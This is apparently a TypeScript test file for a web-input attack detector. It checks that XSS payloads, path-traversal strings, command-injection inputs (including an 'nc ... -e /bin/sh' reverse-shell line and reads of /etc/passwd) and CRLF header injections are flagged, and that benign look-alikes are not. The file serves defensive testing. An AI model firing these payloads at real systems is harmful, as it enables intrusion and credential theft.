import t from 'tap';
import { inspectValue, THRESHOLDS, type Location } from '../../src/inspect/detect.js';

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Tap = { ok: (...args: any[]) => unknown };

const check = (t: Tap, v: string, loc: Location, attack: boolean, rule?: string) => {
  const r = inspectValue(v, loc, 2);
  if (attack) {
    t.ok(r.score >= THRESHOLDS[2], `flagged: ${JSON.stringify(v)} (${r.rules.join(',')})`);
    if (rule) t.ok(r.rules.includes(rule), `${JSON.stringify(v)} → ${rule} (${r.rules.join(',')})`);
  } else {
    t.ok(r.score < THRESHOLDS[2], `not flagged: ${JSON.stringify(v)} (${r.rules.join(',')})`);
  }
};

t.test('XSS attacks', async (t) => {
  const attacks: Array<[string, string]> = [
    ['<script>alert(1)</script>', 'xss-script-tag'],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss-script-tag'],
    ['<scr%00ipt>alert(1)</scr%00ipt>', 'xss-script-tag'],
    ['"><img src=x onerror=alert(1)>', 'xss-event-handler'],
    ['<svg/onload=alert(1)>', 'xss-dangerous-tag'],
    ['x onerror=alert(1);>', 'xss-event-handler'],
    ['<body onpageshow=alert(1)>', 'xss-event-handler'],
    ['<a href="javascript:alert(1)">x</a>', 'xss-script-uri'],
    ['<a href="&#74;avascript:alert(1)">', 'xss-script-uri'],
    ['<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', 'xss-script-uri'],
    ['<a href=\\x6A\\x61vascript:alert(1)>', 'xss-script-uri'],
    ['<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', 'xss-dangerous-tag'],
    ['<object data="data:text/html,<script>alert(1)</script>">', 'xss-data-uri'],
    ['<div style="width: expression(alert(1))">', 'xss-css-expression'],
    ['<embed src=x.swf>', 'xss-dangerous-tag'],
    ['{{constructor.constructor(\'alert(1)\')()}}', 'xss-template-injection'],
  ];
  for (const [v, rule] of attacks) check(t, v, 'query', true, rule);
});

t.test('XSS-looking benign values pass', async (t) => {
  for (const v of [
    'I <3 NY',
    'I+%3C3+%3C3+THE+DOCTOR',
    'price<50 and rating>4',
    'BLAH <A HREF="/PATH1/PATH2/PATH3">FOO</A>',
    '<b>bold</b> and <i>italic</i>',
    'javascript book for beginners',
    'Error in javascript: x is undefined',
    'data:image/png;base64,iVBORw0KGgo=',
    'onion rings, online only, ontario',
    'confirm booking',
    'alert bracelet',
    'style guide',
    'Template: Hello {{name}}, your order {{order.id}} has shipped!',
  ])
    check(t, v, 'query', false);
});

t.test('path traversal', async (t) => {
  check(t, '../../../../etc/passwd', 'query', true, 'traversal-dotdot');
  check(t, '..%2F..%2F..%2Fetc%2Fshadow', 'query', true, 'traversal-sensitive-file');
  check(t, '..%c0%af..%c0%af..%c0%afboot.ini', 'query', true, 'traversal-dotdot');
  check(t, '%252e%252e%252f%252e%252e%252fwin.ini', 'path', true, 'traversal-dotdot');
  check(t, '....//....//etc/hosts', 'query', true);
  check(t, '..\\..\\windows\\system32\\config', 'query', true);
  check(t, 'file:///etc/passwd', 'query', true, 'traversal-sensitive-file');
  check(t, 'wait... what?', 'query', false);
  check(t, '../ is the parent dir in unix', 'query', false);
  check(t, 'GREEN...GREEN...GREENISH', 'query', false);
});

t.test('command injection', async (t) => {
  check(t, '; cat /etc/hosts', 'query', true, 'cmdi-command-chain');
  check(t, '127.0.0.1; id', 'query', true, 'cmdi-command-chain');
  check(t, 'x | nc 10.0.0.1 4444 -e /bin/sh', 'query', true);
  check(t, '$(whoami)', 'query', true, 'cmdi-substitution');
  check(t, '`id`', 'query', true, 'cmdi-substitution');
  check(t, 'a;ls -la', 'query', true);
  check(t, ';${IFS}cat${IFS}/etc/passwd', 'query', true);
  check(t, 'fish & chips; salad', 'body', false);
  check(t, 'BASE; SET SWAROVSKI', 'query', false);
  check(t, 'dogs; cat', 'query', false);
  check(t, 'Tom & Jerry', 'query', false);
  check(t, 'cost is $9.99 (incl. tax)', 'query', false);
});

t.test('CRLF / header injection', async (t) => {
  check(t, 'foo%0d%0aSet-Cookie:%20session=evil', 'query', true, 'crlf-header-injection');
  check(t, '/redirect%0d%0aLocation:%20http://evil', 'path', true, 'crlf-header-injection');
  check(t, 'x\r\nX-Injected: 1', 'header', true, 'crlf-header-injection');
  check(t, 'line one\nNote: see below', 'body', false);
  check(t, 'Hello\r\nThanks: bye', 'body', false);
});
